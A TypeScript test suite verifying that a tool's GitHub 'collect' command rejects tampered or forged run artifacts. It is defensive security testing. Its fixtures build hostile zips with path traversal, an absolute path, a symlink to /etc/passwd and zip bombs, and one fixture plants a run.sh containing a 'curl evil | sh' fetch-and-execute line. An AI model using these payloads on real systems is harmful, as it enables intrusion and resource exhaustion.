// Collect under fault: a remote step that fails, a worker that fails, and every way the run's
// artifact can be missing, replaced or forged — each with the real gh against the loopback GitHub
// and the shipped workflow on the loopback runner. Every crafted artifact is stored with a digest
// that matches its bytes, so the check under test (strict unzip, manifest, identity, certificate,
// restore policy) is what has to catch it. Each failing collect asserts its code and exit, the
// ledger entry (its state, and that it records the code), and that the DAG did not change.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CERTIFICATE_PAYLOAD_TYPE, canonicalBytes, decodeCapability, generateSigningKey, signDsse, x25519PublicKey } from '@swarm/core';
import { ARTIFACT_LIMITS, artifactName, sealToken } from '@swarm/github';
import { bundleWrapKey, wrapDataKey } from '@swarm/state';
import type { EmulatedArtifact } from '../../../test-utils/src/github/emulator.js';
import {
  editJson,
  ledgerOf,
  nodeRow,
  parseManifest,
  patchLedger,
  readArtifactFiles,
  replaceArtifact,
  restoreArtifact,
  runRow,
  setNodeColumn,
  sha256,
  storeLeftovers,
  storeView,
  storedArtifact,
  withManifest,
  zipFiles,
  type StoreView,
} from './artifact-tamper.js';
import { GH_AVAILABLE, REPO, chainKeyForms, expectNoLeak, leakCorpus, standingSecrets, startHarness, type Harness, type Swarm } from './harness.js';

let h: Harness;
const reveals: Array<[string, string[]]> = [];

interface Dispatched {
  request_id: string;
  run_id: string;
  remote_run_id: number;
}
const runs: Record<string, Dispatched> = {};

async function dispatch(runId: string, step: string, extra: string[] = [], node = 'run:base'): Promise<Dispatched> {
  const r = await h.swarm(['backend', 'github', 'dispatch', '--repo', REPO, '--node', node, '--run-id', runId, '--step', step, ...extra]);
  expect(r.code, r.stderr + r.stdout).toBe(0);
  const d = r.envelope.data as Dispatched;
  expect(d.run_id).toBe(runId);
  runs[runId] = d;
  return d;
}

async function collect(runId: string): Promise<Swarm> {
  const r = await h.swarm(['backend', 'github', 'collect', '--run-id', runId]);
  if (r.envelope?.error?.code === 'INTERNAL') console.error(`collect ${runId} failed inside swarm:\n${r.stdout}\n${r.stderr}`);
  return r;
}

function artifactOf(runId: string): EmulatedArtifact {
  const d = runs[runId]!;
  return storedArtifact(h.emulator, d.remote_run_id, d.request_id);
}

function filesOf(runId: string): Map<string, Buffer> {
  return readArtifactFiles(artifactOf(runId).bytes);
}

/** Stores `zip` as the run's artifact (same id and name, a digest of the new bytes). */
function serve(runId: string, zip: Buffer): void {
  replaceArtifact(h.emulator, originals[runId]!.id, zip);
}

/** The artifact each run uploaded, kept to put back after a manipulation. */
const originals: Record<string, EmulatedArtifact> = {};
function undo(runId: string): void {
  restoreArtifact(h.emulator, originals[runId]!);
}

/**
 * A failed collect: exit code and error code in the envelope, the ledger entry in `ledgerStatus`
 * with the code as its latest error, and the DAG as it was (no node, no run, no run directory,
 * no staging left behind).
 */
function expectRefused(r: Swarm, runId: string, code: string, exit: number, before: StoreView, ledgerStatus = 'completed'): any {
  expect(r.envelope?.status, r.stdout + r.stderr).toBe('error');
  expect(r.envelope.error.code, r.envelope.error.message).toBe(code);
  expect(r.code, r.envelope.error.message).toBe(exit);
  expect(r.envelope.error.category).toBe(CATEGORY_OF_EXIT[exit]);
  const ledger = ledgerOf(h.project, runId);
  expect(ledger.status).toBe(ledgerStatus);
  expect(ledger.entry.errors.at(-1)?.code).toBe(code);
  expect(ledger.entry.node_id).toBeUndefined();
  expectDagUnchanged(runId, before);
  return r.envelope.error;
}

/** Serves `zip` as the run's artifact, collects, expects the refusal, and puts the artifact back whatever happened. */
async function refusedWith(runId: string, zip: Buffer, code: string, exit: number): Promise<any> {
  return refusedAfter(runId, () => serve(runId, zip), code, exit);
}

/** Manipulates the stored artifact, collects, expects the refusal, and puts the artifact back whatever happened. */
async function refusedAfter(runId: string, manipulate: () => void, code: string, exit: number): Promise<any> {
  const before = storeView(h.project);
  manipulate();
  try {
    return expectRefused(await collect(runId), runId, code, exit, before);
  } finally {
    undo(runId);
  }
}

function expectDagUnchanged(runId: string, before: StoreView): void {
  const after = storeView(h.project);
  expect(after).toEqual(before);
  expect(after.nodeIds).not.toContain(`node-${runId}`);
  expect(runRow(h.project, runId)).toBeUndefined();
  expect(storeLeftovers(h.project, runId)).toEqual({ runDir: false, staging: [] });
}

function expectCollected(r: Swarm, runId: string, before: StoreView, status: 'succeeded' | 'failed' = 'succeeded'): void {
  if (status === 'succeeded') {
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.envelope.data).toMatchObject({ run_id: runId, node_id: `node-${runId}`, status: 'succeeded' });
  }
  expect(ledgerOf(h.project, runId)).toMatchObject({ status: 'collected', entry: { node_id: `node-${runId}` } });
  const after = storeView(h.project);
  expect(after.nodes).toBe(before.nodes + 1);
  expect(after.nodeIds).toContain(`node-${runId}`);
  expect(nodeRow(h.project, `node-${runId}`)).toMatchObject({ status, parent_node_id: ledgerOf(h.project, runId).entry.parent_node_id });
  expect(runRow(h.project, runId)).toMatchObject({ status, backend: 'github', node_id: `node-${runId}` });
}

describe.skipIf(!GH_AVAILABLE)('github backend: collect refuses what it cannot verify, and changes nothing when it does', () => {
  beforeAll(async () => {
    h = await startHarness('collect');
    const base = await h.swarm(['run', 'launch', '--node', 'root', '--run-id', 'base', '--step', 'echo x > x.txt']);
    expect(base.code, base.stderr).toBe(0);

    // A parent that cannot be restored on the runner: its catalog row wraps a data key that does
    // not open its bundle (the bundle and its digest are intact, so the transport accepts it).
    const coldp = await h.swarm(['run', 'launch', '--node', 'root', '--run-id', 'coldp', '--reveal', '--step', 'echo c > c.txt']);
    expect(coldp.code, coldp.stderr).toBe(0);
    h.outputs.splice(-2); // --reveal prints the tokens on purpose
    const stateCap = coldp.envelope.data.revealed.state_cap_next as string;
    reveals.push(['coldp state cap', chainKeyForms(stateCap, 'state_cap')], ['coldp net cap', chainKeyForms(coldp.envelope.data.revealed.net_cap_next, 'net_cap')]);
    const node = nodeRow(h.project, 'node-coldp')!;
    const wrongKey = wrapDataKey(crypto.randomBytes(32), bundleWrapKey(Buffer.from(decodeCapability(stateCap, 'state_cap').chain_key, 'hex')), `swarm-bundle-key:v1:${node.bundle_sha256}:${node.state_id}:${node.ratchet_step}`);
    setNodeColumn(h.project, 'node-coldp', 'wrapped_key', wrongKey);

    await dispatch('fail', 'echo partial > p.txt; exit 3');
    await dispatch('fail2', 'exit 3');
    await dispatch('ok1', 'echo one > one.txt');
    await dispatch('ok2', 'echo two > two.txt');
    await dispatch('ok3', 'echo three > three.txt');
    await dispatch('cold1', 'ls -A > ls.txt', ['--allow-cold-start'], 'run:coldp');
    await dispatch('cold2', 'ls -A > ls.txt', ['--allow-cold-start'], 'run:coldp');
    await h.runner.idle();
    for (const [id, d] of Object.entries(runs)) {
      expect(h.emulator.run(d.remote_run_id), id).toMatchObject({ status: 'completed', conclusion: 'success' });
      originals[id] = artifactOf(id);
    }
  }, 240_000);
  afterAll(async () => {
    await h?.close();
  });

  it('a step that fails remotely is imported as a failed node, like a local one (exit 7)', async () => {
    const before = storeView(h.project);
    const r = await collect('fail');
    expect(r.envelope.error.code, r.stdout).toBe('STEP_FAILED');
    expect(r.code).toBe(7);
    expect(r.envelope.error.details).toMatchObject({ run_id: 'fail', node_id: 'node-fail', status: 'failed' });
    expectCollected(r, 'fail', before, 'failed');
    expect(runRow(h.project, 'fail')).toMatchObject({ status: 'failed', exit_code: 3, backend: 'github' });
    // The failed node holds what the step left, as a local failed run does.
    const out = path.join(h.tmp, 'export-fail');
    const exported = await h.swarm(['state', 'export', '--node', 'run:fail', '--out', out]);
    expect(exported.code, exported.stderr).toBe(0);
    expect(fs.readFileSync(path.join(out, 'workspace', 'p.txt'), 'utf8')).toBe('partial\n');
    expect(fs.readFileSync(path.join(out, 'workspace', 'x.txt'), 'utf8')).toBe('x\n');
    // Collected once: a second collect is refused and imports nothing.
    const after = storeView(h.project);
    const again = await collect('fail');
    expect(again.envelope.error.code).toBe('RUN_LEDGER_STATE');
    expect(again.code).toBe(2);
    expect(storeView(h.project)).toEqual(after);
  });

  it('a worker that cannot read its runner key fails the run at the envelope stage: GH_RUN_FAILED (exit 4), ledger failed', async () => {
    const original = h.emulator.secretValue(REPO, 'SWARM_RUNNER_KEY', 'swarm')!;
    expect(original).toBeTruthy();
    h.emulator.setSecret(REPO, 'SWARM_RUNNER_KEY', 'garbage', 'swarm');
    let dispatched: Dispatched | undefined;
    try {
      dispatched = await dispatch('badkey', 'echo never > n.txt');
      await h.runner.idle();
    } finally {
      h.emulator.setSecret(REPO, 'SWARM_RUNNER_KEY', original, 'swarm');
    }
    const d = dispatched!;
    expect(h.emulator.run(d.remote_run_id)).toMatchObject({ status: 'completed', conclusion: 'failure' });
    const files = readArtifactFiles(storedArtifact(h.emulator, d.remote_run_id, d.request_id).bytes);
    expect([...files.keys()].sort()).toEqual(['error.json', 'manifest.json']);
    const before = storeView(h.project);
    const error = expectRefused(await collect('badkey'), 'badkey', 'GH_RUN_FAILED', 4, before, 'failed');
    expect(error.details).toMatchObject({ conclusion: 'failure', stage: 'envelope', worker_code: 'RUNNER_KEY_INVALID' });
    // Failed is final: collecting again is refused without touching GitHub's artifact.
    const again = await collect('badkey');
    expect(again.envelope.error.code).toBe('RUN_LEDGER_STATE');
    expectDagUnchanged('badkey', before);
  });

  describe('the artifact listing and its digest', () => {
    it('missing → ARTIFACT_MISSING (exit 4)', async () => {
      const error = await refusedAfter('ok1', () => h.emulator.setArtifact(originals.ok1!.id, { name: `${originals.ok1!.name}-renamed` }), 'ARTIFACT_MISSING', 4);
      expect(error.details).toMatchObject({ artifact: artifactName(runs.ok1!.request_id) });
    });

    it('expired → ARTIFACT_EXPIRED (exit 4)', async () => {
      await refusedAfter('ok1', () => h.emulator.setArtifact(originals.ok1!.id, { expired: true }), 'ARTIFACT_EXPIRED', 4);
    });

    it('no digest → ARTIFACT_DIGEST_MISSING (exit 3)', async () => {
      await refusedAfter('ok1', () => h.emulator.setArtifact(originals.ok1!.id, { digest: null }), 'ARTIFACT_DIGEST_MISSING', 3);
    });

    it('two artifacts of the same name → ARTIFACT_AMBIGUOUS (exit 4), even when they are byte-identical', async () => {
      const before = storeView(h.project);
      const copy = h.emulator.addRawArtifact(runs.ok1!.remote_run_id, originals.ok1!.name, originals.ok1!.bytes);
      try {
        expect(copy.digest).toBe(originals.ok1!.digest);
        const error = expectRefused(await collect('ok1'), 'ok1', 'ARTIFACT_AMBIGUOUS', 4, before);
        expect(error.details.ids).toEqual([originals.ok1!.id, copy.id]);
      } finally {
        h.emulator.setArtifact(copy.id, { name: 'not-swarm' });
      }
    });

    it('bytes replaced in storage (digest kept) → ARTIFACT_DIGEST_MISMATCH (exit 3)', async () => {
      const bytes = Buffer.from(originals.ok1!.bytes);
      bytes[Math.floor(bytes.length / 2)]! ^= 0x01;
      const error = await refusedAfter('ok1', () => h.emulator.tamperArtifact(originals.ok1!.id, bytes), 'ARTIFACT_DIGEST_MISMATCH', 3);
      expect(error.details).toMatchObject({ expected: originals.ok1!.digest, actual: sha256(bytes) });
    });

    it('with the artifact as uploaded, the same run collects (the refusals above were the manipulations)', async () => {
      const before = storeView(h.project);
      const ledger = ledgerOf(h.project, 'ok1');
      expect(ledger.entry.errors.map((e: any) => e.code)).toEqual(['ARTIFACT_MISSING', 'ARTIFACT_EXPIRED', 'ARTIFACT_DIGEST_MISSING', 'ARTIFACT_AMBIGUOUS', 'ARTIFACT_DIGEST_MISMATCH']);
      expectCollected(await collect('ok1'), 'ok1', before);
    });
  });

  describe('a hostile zip whose digest matches', () => {
    const unsafe: Array<[string, (files: Map<string, Buffer>) => Buffer, string]> = [
      ['an entry "../x"', (f) => zipFiles(f, [{ name: '../x', data: 'escape' }]), '".." path segment'],
      ['an entry "../step.log" in place of step.log', (f) => zipFiles(without(f, 'step.log'), [{ name: '../step.log', data: f.get('step.log')! }]), '".." path segment'],
      ['an absolute path', (f) => zipFiles(f, [{ name: '/tmp/swarm-evil', data: 'abs' }]), 'absolute name'],
      ['a symlink entry', (f) => zipFiles(without(f, 'step.log'), [{ name: 'step.log', data: '/etc/passwd', symlink: true }]), 'symbolic link'],
      ['a duplicate entry', (f) => zipFiles(f, [{ name: 'step.log', data: 'second copy' }]), 'duplicate name'],
      ['a bomb (a highly compressible step.log, manifest consistent)', (f) => zipFiles(withManifest(new Map([...f, ['step.log', Buffer.alloc(BOMB_BYTES)]]))), 'zip bomb'],
      ['a bomb that lies about its size', (f) => zipFiles(without(f, 'step.log'), [{ name: 'step.log', data: Buffer.alloc(BOMB_BYTES), declaredSize: 1000 }]), 'inflates past its declared size'],
    ];
    for (const [what, build, reason] of unsafe) {
      it(`${what} → ARTIFACT_ARCHIVE_UNSAFE (exit 3)`, async () => {
        const error = await refusedWith('ok2', build(filesOf('ok2')), 'ARTIFACT_ARCHIVE_UNSAFE', 3);
        expect(error.message).toContain(reason);
      });
    }

    it('the bomb is past the reader limits', () => {
      const zip = zipFiles(new Map([['step.log', Buffer.alloc(BOMB_BYTES)]]));
      expect(BOMB_BYTES / zip.length).toBeGreaterThan(ARTIFACT_LIMITS.maxRatio);
      expect(BOMB_BYTES).toBeGreaterThan(64 * 1024);
    });

    const mismatched: Array<[string, (files: Map<string, Buffer>) => Buffer, string]> = [
      ['a file the manifest does not list', (f) => zipFiles(f, [{ name: 'error.json', data: '{}' }]), 'error.json is not in the manifest'],
      ['a file no artifact may hold', (f) => zipFiles(withManifest(new Map([...f, ['run.sh', Buffer.from('curl evil | sh')]]))), 'run.sh'],
      ['a file with another sha256 than the manifest says', (f) => zipFiles(new Map([...f, ['step.log', Buffer.from('forged log\n')]])), 'step.log has another sha256'],
      ['a file the manifest lists but the zip lacks', (f) => zipFiles(without(f, 'step.log')), 'step.log is missing'],
      ['no manifest at all', (f) => zipFiles(without(f, 'manifest.json')), 'no manifest.json'],
    ];
    for (const [what, build, reason] of mismatched) {
      it(`${what} → ARTIFACT_MANIFEST_MISMATCH (exit 3)`, async () => {
        const error = await refusedWith('ok2', build(filesOf('ok2')), 'ARTIFACT_MANIFEST_MISMATCH', 3);
        expect(error.message).toContain(reason);
      });
    }
  });

  describe('a consistent artifact (manifest rebuilt, digest matching) with forged contents', () => {
    const forged: Array<[string, (files: Map<string, Buffer>) => Map<string, Buffer>, string, number, string?]> = [
      ['certificate.json with one field changed', (f) => editJson(f, 'certificate.json', (c) => (c.swarm.egress_allowlist = ['evil.example'])), 'VERIFY_FAILED', 3, 'VERIFY_SIGNATURE_PAYLOAD_MISMATCH'],
      ['certificate.json with its finished_at moved', (f) => editJson(f, 'certificate.json', (c) => (c.runtime.finished_at = '2099-01-01T00:00:00Z')), 'VERIFY_FAILED', 3, 'VERIFY_SIGNATURE_PAYLOAD_MISMATCH'],
      ['policy.json that allows more', (f) => editJson(f, 'policy.json', (p) => addHost(p)), 'VERIFY_FAILED', 3, 'VERIFY_POLICY_MISMATCH'],
      ['result.json with another artifact_hash', (f) => editJson(f, 'result.json', (r) => (r.artifact_hash = sha256('another certificate'))), 'VERIFY_FAILED', 3, 'VERIFY_CERT_HASH_MISMATCH'],
      ['result.json with another bundle_sha256', (f) => editJson(f, 'result.json', (r) => (r.bundle_sha256 = sha256('another bundle'))), 'VERIFY_FAILED', 3, "the artifact's bundle is"],
      ['result.json that breaks its schema (a required field gone)', (f) => editJson(f, 'result.json', (r) => delete r.certificate_ref), 'VERIFY_FAILED', 3, 'result.json of the artifact is invalid'],
      ['certificate.json that is not JSON', (f) => new Map([...f, ['certificate.json', Buffer.from('{"type":')]]), 'VERIFY_FAILED', 3, 'certificate.json of the artifact is not JSON'],
      ['certificate.dsse.json re-signed (same certificate) by an untrusted key', (f) => resign(f), 'VERIFY_FAILED', 3, 'VERIFY_SIGNATURE_UNTRUSTED'],
      ['a changed certificate re-signed by an untrusted key, result.json pointing at it', (f) => resign(editJson(f, 'certificate.json', (c) => (c.swarm.egress_allowlist = ['evil.example'])), true), 'VERIFY_FAILED', 3, 'VERIFY_SIGNATURE_UNTRUSTED'],
      ['next_tokens.json sealed to another key than the operator\'s', (f) => editJson(f, 'next_tokens.json', (t) => (t.state_cap_next = sealToken('not for you', x25519PublicKey(crypto.randomBytes(32)).toString('base64url')))), 'VERIFY_FAILED', 3, 'not sealed to this operator'],
    ];
    for (const [what, forge, code, exit, check] of forged) {
      it(`${what} → ${code} (exit ${exit})`, async () => {
        const error = await refusedWith('ok2', zipFiles(withManifest(forge(filesOf('ok2')))), code, exit);
        if (check) expect(`${error.message} ${JSON.stringify(error.details?.report?.failed ?? [])}`).toContain(check);
      });
    }

    it("another request's artifact under this request's name → RUN_IDENTITY_MISMATCH (exit 3), with its manifest as it was or rewritten", async () => {
      const before = storeView(h.project);
      const b = runs.ok2!;
      const theirs = originals.ok1!;
      // The real artifact of ok2 is out of the way; ok1's (request A) is served as ok2's (request B).
      h.emulator.setArtifact(originals.ok2!.id, { name: 'moved-away' });
      const planted = h.emulator.addRawArtifact(b.remote_run_id, artifactName(b.request_id), theirs.bytes);
      try {
      expect(planted.digest).toBe(theirs.digest);
      let error = expectRefused(await collect('ok2'), 'ok2', 'RUN_IDENTITY_MISMATCH', 3, before);
      expect(error.message).toContain(runs.ok1!.request_id);

      // The same files with the manifest rewritten to name request B: the certificate still names A.
      const files = withManifest(readArtifactFiles(theirs.bytes), { requestId: b.request_id, runId: b.run_id });
      expect(parseManifest(files)).toMatchObject({ request_id: b.request_id, run_id: 'ok2' });
      replaceArtifact(h.emulator, planted.id, zipFiles(files));
      error = expectRefused(await collect('ok2'), 'ok2', 'RUN_IDENTITY_MISMATCH', 3, before);
      expect(error.details.mismatched).toEqual(expect.arrayContaining(['run_id', 'request_id', 'job_id', 'result.run_id']));
      } finally {
        h.emulator.setArtifact(planted.id, { name: 'planted-away' });
        undo('ok2');
      }
    });

    it('with the artifact as uploaded, the same run collects', async () => {
      const before = storeView(h.project);
      expect(new Set(ledgerOf(h.project, 'ok2').entry.errors.map((e: any) => e.code))).toEqual(
        new Set(['ARTIFACT_ARCHIVE_UNSAFE', 'ARTIFACT_MANIFEST_MISMATCH', 'VERIFY_FAILED', 'RUN_IDENTITY_MISMATCH']),
      );
      expectCollected(await collect('ok2'), 'ok2', before);
    });

    // The files below are not covered by the runner's signature themselves; collect has to hold
    // them to what the signed certificate says.
    it('a forged step.log (manifest rebuilt) → VERIFY_FAILED (exit 3): the certificate binds response_sha256', async () => {
      const files = filesOf('ok3');
      const cert = JSON.parse(files.get('certificate.json')!.toString('utf8'));
      expect(cert.result.response_sha256).toBe(sha256(files.get('step.log')!));
      await refusedWith('ok3', zipFiles(withManifest(new Map([...files, ['step.log', Buffer.from('all tests passed\n')]]))), 'VERIFY_FAILED', 3);
    });

    it('a failed step whose result.json says it succeeded → VERIFY_FAILED (exit 3): the certificate says failed', async () => {
      const files = filesOf('fail2');
      const cert = JSON.parse(files.get('certificate.json')!.toString('utf8'));
      expect(cert.swarm).toMatchObject({ status: 'failed', exit_code: 3 });
      await refusedWith('fail2', zipFiles(withManifest(editJson(files, 'result.json', (r) => Object.assign(r, { status: 'succeeded', exit_code: 0 })))), 'VERIFY_FAILED', 3);
    });
  });

  describe('the restore policy', () => {
    it('the runner really started cold, and signed it (the parent could not be restored there)', () => {
      const files = filesOf('cold1');
      const cert = JSON.parse(files.get('certificate.json')!.toString('utf8'));
      const result = JSON.parse(files.get('result.json')!.toString('utf8'));
      expect(cert.swarm.restore_mode).toBe('cold_start');
      expect(result.restore_mode).toBe('cold_start');
      expect(String(result.restore_reason)).toContain('STATE_KEY_MISMATCH');
      expect(cert.swarm.restore_reason).toBe(result.restore_reason);
      expect(ledgerOf(h.project, 'cold1').entry.allow_cold_start).toBe(true);
    });

    it('a cold start the operator did not allow → RESTORE_POLICY_VIOLATION (exit 5); allowed, the same run collects', async () => {
      const before = storeView(h.project);
      // The operator's record says no cold start; the runner's signed certificate says it started cold.
      patchLedger(h.project, 'cold1', (e) => (e.allow_cold_start = false));
      const error = expectRefused(await collect('cold1'), 'cold1', 'RESTORE_POLICY_VIOLATION', 5, before);
      expect(error.details).toMatchObject({ restore_mode: 'cold_start' });
      expect(String(error.details.reason)).toContain('STATE_KEY_MISMATCH');

      patchLedger(h.project, 'cold1', (e) => (e.allow_cold_start = true));
      expectCollected(await collect('cold1'), 'cold1', before);
      expect(runRow(h.project, 'cold1')).toMatchObject({ restore_mode: 'cold_start', status: 'succeeded' });
    });

    it('a cold start disguised as a checkpoint in result.json (manifest rebuilt) is still refused (exit 3 or 5)', async () => {
      const before = storeView(h.project);
      patchLedger(h.project, 'cold2', (e) => (e.allow_cold_start = false));
      const forged = editJson(filesOf('cold2'), 'result.json', (r) => {
        r.restore_mode = 'checkpoint';
        delete r.restore_reason;
      });
      serve('cold2', zipFiles(withManifest(forged)));
      try {
        const r = await collect('cold2');
        // The signed certificate says cold_start: either the forgery (3) or the policy (5) refuses it.
        expect(r.envelope?.status, r.stdout).toBe('error');
        const exit = ({ VERIFY_FAILED: 3, RESTORE_POLICY_VIOLATION: 5 } as Record<string, number>)[r.envelope.error.code];
        expect(exit, JSON.stringify(r.envelope.error)).toBeDefined();
        expectRefused(r, 'cold2', r.envelope.error.code, exit!, before);
      } finally {
        undo('cold2');
      }
    });
  });

  it('leaves no capability, key or token anywhere GitHub or a log could show it', () => {
    expect(reveals.length).toBe(2);
    const corpus = leakCorpus(h);
    // The scan can find what it looks for: the dispatch inputs and the artifacts are in the corpus.
    expect(corpus).toContain('swarm-pin-');
    expect(corpus).toContain(artifactName(runs.ok1!.request_id));
    expect(corpus).toContain(runs.ok2!.request_id);
    expectNoLeak(corpus, [...reveals, ...standingSecrets(h)]);
  });
});

const BOMB_BYTES = 16 * 1024 * 1024;
const CATEGORY_OF_EXIT: Record<number, string> = { 2: 'input', 3: 'verification', 4: 'backend', 5: 'restore', 7: 'step' };

function without(files: Map<string, Buffer>, name: string): Map<string, Buffer> {
  const out = new Map(files);
  out.delete(name);
  return out;
}

function addHost(policy: any): void {
  const text = JSON.stringify(policy);
  // Whatever the shape, one allowlist grows by a host the operator never allowed.
  const visit = (v: any): boolean => {
    if (!v || typeof v !== 'object') return false;
    for (const [k, x] of Object.entries(v)) {
      if (Array.isArray(x) && /allow/i.test(k)) {
        x.push('evil.example');
        return true;
      }
      if (visit(x)) return true;
    }
    return false;
  };
  if (!visit(policy)) throw new Error(`no allowlist in policy.json: ${text.slice(0, 300)}`);
}

/** certificate.dsse.json signed by a fresh Ed25519 key; optionally result.json's artifact_hash follows the certificate. */
function resign(files: Map<string, Buffer>, followResult = false): Map<string, Buffer> {
  const { key } = generateSigningKey(keyHome());
  const certificate = files.get('certificate.json')!;
  const out = new Map(files);
  out.set('certificate.dsse.json', canonicalBytes(signDsse(CERTIFICATE_PAYLOAD_TYPE, certificate, key)));
  if (followResult) return editJson(out, 'result.json', (r) => (r.artifact_hash = sha256(certificate)));
  return out;
}

let home: string | undefined;
function keyHome(): string {
  home ??= fs.mkdtempSync(path.join(h.tmp, 'attacker-'));
  return home;
}
